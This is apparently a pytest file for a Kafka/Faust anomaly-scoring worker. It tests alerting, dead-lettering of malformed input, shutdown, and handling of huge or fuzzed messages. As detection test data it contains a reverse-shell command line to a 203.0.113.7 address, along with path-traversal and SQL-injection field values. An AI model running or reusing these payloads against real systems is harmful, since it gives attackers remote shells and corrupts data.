"""The Faust worker against the real broker and LanceDB: scores, alerts, dead letters."""

from __future__ import annotations

import json
import random
from pathlib import Path

import pytest

from ruleless.kafka import consumer_config, producer
from ruleless.settings import Settings
from schemas.events import decode_scored, encode
from streams.scoring import ScoringService
from tests.factories import event, fleet_stream
from tests.processes import drain, ruleless_process

MALFORMED = [
    b"not json at all",
    b"",
    b"[1, 2, 3]",
    b'{"ts": "yesterday", "org_id": "acme", "workload": "web"}',
    b'{"ts": 1.0, "workload": "web"}',
    b'{"ts": 1.0, "org_id": "../../etc", "workload": "web"}',
    b'{"ts": 1.0, "org_id": "acme", "workload": "web; DROP TABLE x"}',
    b'{"ts": 1.0, "org_id": "acme", "workload": "web", "pid": -5}',
    b"\xff\xfe\x00garbage",
    b'{"ts": 1.0, "org_id": "acme", "workload": "web", "local_port": 70000}',
]


def test_worker_scores_like_the_offline_engine_and_dead_letters_bad_input(
    topics: Settings, tmp_path: Path
) -> None:
    events = fleet_stream(pairs=20, per_pair=500, seed=1)
    events.append(event(ts=events[-1].ts + 1, cmdline="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"))
    rng = random.Random(7)
    messages: list[tuple[bytes, bytes]] = [(e.shard_key.encode(), encode(e)) for e in events]
    for i in range(1000):
        messages.insert(rng.randrange(len(messages)), (b"acme/web", MALFORMED[i % len(MALFORMED)]))

    with ruleless_process(topics, "worker", log=tmp_path / "worker.log"):
        prod = producer(topics.kafka)
        for key, value in messages:
            prod.produce(topics.topics.raw, key=key, value=value)
        assert prod.flush(60) == 0
        t = topics.topics
        got = drain(
            topics, [t.scored, t.alerts, t.dead_letter],
            lambda g: len(g[t.scored]) >= len(events) and len(g[t.dead_letter]) >= 1000,
        )

    scored = {s.event_id: s for s in map(decode_scored, got[t.scored])}
    assert len(got[t.scored]) == len(events) and len(scored) == len(events)

    offline = ScoringService(topics.model_copy(update={"lancedb": topics.lancedb.model_copy(update={"uri": str(tmp_path / "offline")})}))
    expected = {s.event_id: s.score for s in offline.score(events)}
    assert {k: v.score for k, v in scored.items()} == expected

    alerts = [decode_scored(m) for m in got[t.alerts]]
    assert sorted(a.event_id for a in alerts) == sorted(k for k, v in scored.items() if v.severity != "ok")
    assert scored[events[-1].event_id].severity == "alert"

    dead = [json.loads(m) for m in got[t.dead_letter]]
    assert len(dead) == 1000
    assert all(d["reason"] and d["stage"] == "worker" and d["topic"] == t.raw for d in dead)
    assert any("org_id" in d["reason"] for d in dead)


def test_sigterm_stops_the_worker_promptly_with_its_learning_stored(topics: Settings, tmp_path: Path) -> None:
    import signal
    import time

    from streams.store import ShardStore

    # No periodic flush during the test: only the one on shutdown can store the learning.
    slow = topics.model_copy(update={"lancedb": topics.lancedb.model_copy(update={"flush_interval_s": 3600.0})})
    events = fleet_stream(pairs=1, per_pair=300, seed=3)
    with ruleless_process(slow, "worker", log=tmp_path / "worker.log") as proc:
        prod = producer(slow.kafka)
        for e in events:
            prod.produce(slow.topics.raw, key=e.shard_key.encode(), value=encode(e))
        assert prod.flush(60) == 0
        got = drain(slow, [slow.topics.scored], lambda g: len(g[slow.topics.scored]) >= len(events))
        assert len(got[slow.topics.scored]) == len(events)
        started = time.monotonic()
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(30) == 0
        stopped_in = time.monotonic() - started
    assert stopped_in < 15, f"worker took {stopped_in:.1f}s to stop"
    loaded = ShardStore(slow.lancedb.uri).find(slow.engine.algorithm, events[0].shard_key)
    assert loaded is not None
    assert loaded.position is not None and loaded.position.offset == len(events) - 1
    assert loaded.table.num_rows > 1


def test_idle_shards_are_dropped_from_memory_and_reload_exactly(topics: Settings, tmp_path: Path) -> None:
    import time

    idle = topics.model_copy(update={"worker": topics.worker.model_copy(update={"idle_shard_s": 1.0})})
    events = fleet_stream(pairs=2, per_pair=400, seed=4)
    half = len(events) // 2
    t = idle.topics
    with ruleless_process(idle, "worker", log=tmp_path / "worker.log"):
        prod = producer(idle.kafka)
        for e in events[:half]:
            prod.produce(t.raw, key=e.shard_key.encode(), value=encode(e))
        assert prod.flush(60) == 0
        drain(idle, [t.scored], lambda g: len(g[t.scored]) >= half)
        deadline = time.monotonic() + 30
        while "evicted 2 idle shards" not in (tmp_path / "worker.log").read_text() and time.monotonic() < deadline:
            time.sleep(0.5)
        assert "evicted 2 idle shards" in (tmp_path / "worker.log").read_text()
        for e in events[half:]:
            prod.produce(t.raw, key=e.shard_key.encode(), value=encode(e))
        assert prod.flush(60) == 0
        got = drain(idle, [t.scored], lambda g: len(g[t.scored]) >= len(events))
    scored = {s.event_id: s.score for s in map(decode_scored, got[t.scored])}
    offline = ScoringService(idle.model_copy(update={"lancedb": idle.lancedb.model_copy(update={"uri": str(tmp_path / "offline")})}))
    assert scored == {s.event_id: s.score for s in offline.score(events)}


def test_learning_is_never_stored_ahead_of_undelivered_outputs(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    """Outputs are in flight while the next batch scores; the flush's snapshot waits for
    them, and an output the broker never acknowledged stops the worker before any of
    that learning reaches LanceDB (its successor re-scores the events)."""
    from ruleless.kafka import producer as make_producer
    from schemas.errors import ServiceError
    from streams.store import Position, ShardStore
    from streams import worker

    # Outputs time out after 1 s; librdkafka's connection errors stay quiet.
    monkeypatch.setattr(worker, "make_producer", lambda kafka, **extra: make_producer(
        kafka, **{**extra, "message.timeout.ms": 1000, "log_level": 0}))
    nowhere = settings.model_copy(update={"kafka": settings.kafka.model_copy(update={"bootstrap": "127.0.0.1:9"})})
    agent = worker.create_app(nowhere).ruleless  # type: ignore[attr-defined]
    events = fleet_stream(pairs=1, per_pair=20, seed=2)
    positions = [Position("raw/0", i) for i in range(len(events))]
    scored, _ = agent._score_and_publish(events[:10], positions[:10], [])
    assert len(scored) == 10  # handed to librdkafka, not waited for
    with pytest.raises(ServiceError, match="not delivered"):
        agent._snapshot()
    with pytest.raises(ServiceError, match="not delivered"):
        agent._score_and_publish(events[10:], positions[10:], [])
    assert ShardStore(nowhere.lancedb.uri).find(nowhere.engine.algorithm, events[0].shard_key) is None


def test_flushes_are_spaced_by_the_shards_they_write(settings: Settings) -> None:
    """A snapshot's cost follows the number of changed shards; timed flushes write at
    most lancedb.flush_shards_per_s shards per second of interval, between
    flush_interval_s and flush_interval_max_s."""
    from streams import worker

    lance = settings.lancedb.model_copy(update={"flush_interval_s": 2.0, "flush_shards_per_s": 1500.0, "flush_interval_max_s": 30.0})
    agent = worker.create_app(settings.model_copy(update={"lancedb": lance})).ruleless  # type: ignore[attr-defined]
    assert agent.flush_every == 2.0
    agent._pace(1_000)
    assert agent.flush_every == 2.0
    agent._pace(10_000)
    assert agent.flush_every == pytest.approx(10_000 / 1500)
    agent._last_flush -= 5.0
    assert not agent.flush_due()
    agent._last_flush -= 2.0
    assert agent.flush_due()
    agent._pace(1_000_000)
    assert agent.flush_every == 30.0


def test_faust_consumer_waits_on_fetches_as_configured(settings: Settings) -> None:
    """Faust fixes aiokafka's fetch wait at 1.5 s; the worker's transport uses ours (a
    broker that holds fetches for the whole wait put it on every event's latency)."""
    import asyncio

    from streams import faust_transport
    from streams.worker import create_app

    configured = settings.model_copy(update={"kafka": settings.kafka.model_copy(update={"fetch_wait_max_ms": 77})})
    app = create_app(configured)
    assert isinstance(app.transport, faust_transport.Transport)

    async def built() -> tuple[int, list[str]]:
        consumer = app.consumer._thread._create_worker_consumer(app.transport)
        try:
            return consumer._fetch_max_wait_ms, consumer._client._bootstrap_servers
        finally:
            await consumer.stop()

    wait_ms, servers = asyncio.run(built())
    assert wait_ms == 77
    assert servers == configured.kafka.bootstrap.split(",")
    # The confluent-kafka consumers (sink, alerts) too.
    assert consumer_config(configured.kafka, "g")["fetch.wait.max.ms"] == 77


def test_the_faust_and_aiokafka_internals_the_worker_relies_on_are_in_place() -> None:
    from streams import faust_transport

    assert faust_transport.moved_internals() == []


def test_a_moved_internal_stops_the_worker_with_its_name(monkeypatch: pytest.MonkeyPatch) -> None:
    from faust.transport.drivers import aiokafka as driver

    from streams import faust_transport

    monkeypatch.delattr(driver.AIOKafkaConsumerThread, "_create_worker_consumer")
    with pytest.raises(RuntimeError, match=r"AIOKafkaConsumerThread\._create_worker_consumer is gone"):
        faust_transport.register()


def test_huge_messages_are_scored_cut_or_dead_lettered_and_never_stop_the_worker(topics: Settings, tmp_path: Path) -> None:
    """Issue 14: a 1 MiB command line once crashed the worker (MSG_SIZE_TOO_LARGE on its
    output). Now the command line is cut and flagged at decode and still scored; a huge
    undecodable message is dead-lettered with its first 64 KiB; everything else flows."""
    from schemas.events import FLAG_CMDLINE_TRUNCATED, MAX_CMDLINE_CHARS, MAX_DEAD_LETTER_RAW_BYTES

    good = fleet_stream(pairs=2, per_pair=100, seed=11)
    huge = [
        event(ts=good[-1].ts + 1, cmdline="sh -c " + "A" * (1 << 20)),
        event(ts=good[-1].ts + 2, cmdline="python3 -c " + "B" * (10 << 20), argv=["python3", "-c", "B" * (10 << 20)]),
    ]
    garbage = b"{" + b"x" * (10 << 20)
    t = topics.topics
    with ruleless_process(topics, "worker", log=tmp_path / "worker.log") as proc:
        prod = producer(topics.kafka, **{"message.max.bytes": 32 << 20})
        for i, e in enumerate(good):
            prod.produce(t.raw, key=e.shard_key.encode(), value=encode(e))
            if i == 50:
                for h in huge:
                    prod.produce(t.raw, key=h.shard_key.encode(), value=encode(h))
                prod.produce(t.raw, key=b"acme/web", value=garbage)
        assert prod.flush(60) == 0
        got = drain(topics, [t.scored, t.dead_letter],
                    lambda g: len(g[t.scored]) >= len(good) + 2 and len(g[t.dead_letter]) >= 1)
        assert proc.poll() is None, "the worker stopped"

    scored = {s.event_id: s for s in map(decode_scored, got[t.scored])}
    assert len(scored) == len(good) + 2
    for h in huge:
        out = scored[h.event_id]
        assert len(out.cmdline) == MAX_CMDLINE_CHARS and FLAG_CMDLINE_TRUNCATED in (out.flags or [])
        assert out.score > 0
    (letter,) = [json.loads(m) for m in got[t.dead_letter]]
    assert letter["stage"] == "worker" and "JSON" in letter["reason"]
    assert letter["raw_size"] == len(garbage) and len(letter["raw"]) < 2 * MAX_DEAD_LETTER_RAW_BYTES  # base64


def test_an_output_the_broker_refuses_is_dead_lettered_not_fatal(settings: Settings, monkeypatch: pytest.MonkeyPatch, topics: Settings) -> None:
    """Belt and braces behind the decode bounds: whatever output librdkafka refuses for
    its size goes to the dead-letter topic with the reason, and scoring goes on."""
    from ruleless.kafka import producer as make_producer
    from streams import worker
    from streams.store import Position

    limit = 100_000  # above a dead letter's size (64 KiB of raw, base64), below this output's
    monkeypatch.setattr(worker, "make_producer", lambda kafka, **extra: make_producer(kafka, **{**extra, "message.max.bytes": limit}))
    agent = worker.create_app(topics).ruleless  # type: ignore[attr-defined]
    # Control characters are 6 bytes each in JSON: a bounded command line, a 120 kB output.
    events = [event(cmdline="printf " + "\x01" * 20_000), *fleet_stream(pairs=1, per_pair=5, seed=4)]
    positions = [Position("raw/0", i) for i in range(len(events))]
    scored, _ = agent._score_and_publish(events, positions, [])
    agent._await_delivery()
    t = topics.topics
    got = drain(topics, [t.scored, t.dead_letter], lambda g: len(g[t.scored]) >= 5 and len(g[t.dead_letter]) >= 1)
    assert len(scored) == 6 and len(got[t.scored]) == 5
    letters = [json.loads(m) for m in got[t.dead_letter]]
    # (its copy on the alerts topic, when it alerts, is refused and dead-lettered too)
    assert sorted(x["topic"] for x in letters) == sorted([t.scored] + [t.alerts] * (scored[0].severity != "ok"))
    assert all(x["stage"] == "worker-output" and "refused" in x["reason"] for x in letters)


def test_ten_thousand_hostile_messages_are_each_scored_or_dead_lettered(topics: Settings, tmp_path: Path) -> None:
    """Issue 14: fuzzed raw messages (tests/fuzz.py) through a real worker: it keeps
    running, and every message is either scored or dead-lettered with a reason."""
    from schemas.errors import DecodeError
    from schemas.events import decode
    from tests.fuzz import seeded_messages

    messages = seeded_messages(10_000, seed=14)
    valid = 0
    for m in messages:
        try:
            decode(m)
            valid += 1
        except DecodeError:
            pass
    assert 1000 < valid < 9000  # both kinds are well represented
    t = topics.topics
    with ruleless_process(topics, "worker", log=tmp_path / "worker.log") as proc:
        prod = producer(topics.kafka, **{"message.max.bytes": 8 << 20})
        for i, m in enumerate(messages):
            prod.produce(t.raw, key=f"k{i % 7}".encode(), value=m)
        assert prod.flush(60) == 0
        got = drain(topics, [t.scored, t.dead_letter], lambda g: len(g[t.scored]) + len(g[t.dead_letter]) >= len(messages),
                    timeout=240)
        assert proc.poll() is None, "the worker stopped"
    letters = [json.loads(m) for m in got[t.dead_letter]]
    # Valid events dated past engine.max_future_skew_s are dead-lettered by the worker.
    future = sum("further in the future" in x["reason"] for x in letters)
    assert len(got[t.scored]) + future == valid and len(letters) == len(messages) - valid + future
    assert all(x["reason"] and x["stage"] == "worker" and x["topic"] == t.raw for x in letters)
